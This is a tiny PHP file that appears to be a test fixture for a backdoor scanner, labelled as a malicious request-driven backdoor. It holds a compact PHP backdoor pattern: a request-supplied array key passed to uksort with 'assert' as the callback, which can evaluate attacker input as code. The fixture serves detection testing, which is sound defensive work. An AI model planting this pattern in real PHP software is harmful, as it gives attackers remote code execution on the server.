<?php return; // want: malicious backdoor php.code.request
$list = new ArrayObject(array('first' => 1, $_REQUEST['second'] => 2));
$list->uksort('assert');
